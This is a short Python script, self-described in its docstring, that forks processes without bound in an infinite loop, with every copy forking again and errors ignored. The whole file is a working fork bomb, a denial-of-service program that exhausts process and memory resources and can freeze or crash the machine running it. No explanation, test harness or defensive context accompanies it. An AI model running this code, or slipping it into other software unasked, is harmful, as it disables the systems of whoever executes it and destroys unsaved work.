"""Forks without bound, every copy forking again, failures ignored."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
